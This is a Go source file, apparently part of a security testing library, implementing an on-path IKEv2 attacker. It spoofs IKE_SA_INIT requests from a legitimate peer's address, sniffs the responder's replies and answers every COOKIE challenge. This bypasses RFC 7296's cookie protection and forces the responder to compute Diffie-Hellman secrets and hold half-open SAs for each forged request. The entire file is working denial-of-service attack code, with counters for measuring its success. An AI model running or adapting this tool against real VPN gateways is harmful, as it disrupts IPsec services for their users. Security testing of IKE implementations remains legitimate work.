package ikeattack

import (
	"context"
	"errors"
	"sync"
	"sync/atomic"

	"github.com/gresec/gresec/ike"
)

// CookieAnswerer is an attacker on the path between the configured peer
// and the responder: it sends IKE_SA_INIT requests from the peer's
// address, reads the responder's replies to that address, and answers
// each COOKIE demand with the cookie (RFC 7296 §2.6), the same nonce and
// KE, as a real initiator would. A responder that checks cookies then
// computes a Diffie-Hellman secret and keeps a half-open IKE SA for every
// request, as for the real peer.
type CookieAnswerer struct {
	f   *Forger
	inj *Injector
	sn  *Sniffer

	mu    sync.Mutex
	reqs  map[uint64]pendingReq // by SPIi, the requests not answered yet
	order []uint64              // FIFO of reqs' keys, to bound it

	demands, answered, accepted, refused atomic.Uint64
}

type pendingReq struct {
	nonce   []byte
	ke      *ike.KE
	cookied bool // its cookie demand was answered
}

// maxRemembered bounds the requests a CookieAnswerer remembers.
const maxRemembered = 1 << 16

// NewCookieAnswerer uses f's addresses and proposals, sends with inj and
// reads the replies with sn (opened in the peer's namespace).
func NewCookieAnswerer(f *Forger, inj *Injector, sn *Sniffer) *CookieAnswerer {
	return &CookieAnswerer{f: f, inj: inj, sn: sn, reqs: map[uint64]pendingReq{}}
}

// SendInit sends one IKE_SA_INIT request with a fresh SPI and nonce and a
// valid KE, and remembers it so that a cookie demand can be answered.
func (c *CookieAnswerer) SendInit() error {
	spi, nonce, ke := c.f.SPI(), c.f.Nonce(), c.f.ValidKE()
	c.mu.Lock()
	if len(c.order) == maxRemembered {
		delete(c.reqs, c.order[0])
		c.order = c.order[1:]
	}
	c.reqs[spi] = pendingReq{nonce: nonce, ke: ke}
	c.order = append(c.order, spi)
	c.mu.Unlock()
	return c.inj.Send(c.f.From, c.f.To, c.f.Init(spi, nonce, ke, nil))
}

// Run reads replies until ctx ends, answering each COOKIE demand to a
// request of ours once.
func (c *CookieAnswerer) Run(ctx context.Context) error {
	for ctx.Err() == nil {
		d, err := c.sn.Read()
		if errors.Is(err, errTimeout) {
			continue
		}
		if err != nil {
			return err
		}
		if d.Src != c.f.To || d.Dst != c.f.From {
			continue
		}
		m, err := ike.DecodeMessage(d.Payload)
		if err != nil || m.Exchange != ike.IKE_SA_INIT || !m.IsResponse() {
			continue
		}
		n := m.Payloads.Notify(ike.COOKIE)
		c.mu.Lock()
		req, ours := c.reqs[m.SPIi]
		answer := ours && n != nil && !req.cookied
		if answer {
			c.reqs[m.SPIi] = pendingReq{nonce: req.nonce, ke: req.ke, cookied: true}
		} else if ours {
			delete(c.reqs, m.SPIi) // done with: a cookie is answered once
		}
		c.mu.Unlock()
		switch {
		case !ours: // the real peer's
		case n != nil:
			c.demands.Add(1)
			if answer && c.inj.Send(c.f.From, c.f.To, c.f.Init(m.SPIi, req.nonce, req.ke, n.Data)) == nil {
				c.answered.Add(1)
			}
		case m.Payloads.FirstError() != nil:
			c.refused.Add(1)
		default:
			c.accepted.Add(1)
		}
	}
	return nil
}

// CookieStats is what a CookieAnswerer saw: cookie demands, demands it
// answered, requests the responder accepted (it kept a half-open SA and
// answered with SA, KE and Nr) and requests it refused with an error
// notify.
type CookieStats struct{ Demands, Answered, Accepted, Refused uint64 }

// Stats reads the counters.
func (c *CookieAnswerer) Stats() CookieStats {
	return CookieStats{c.demands.Load(), c.answered.Load(), c.accepted.Load(), c.refused.Load()}
}
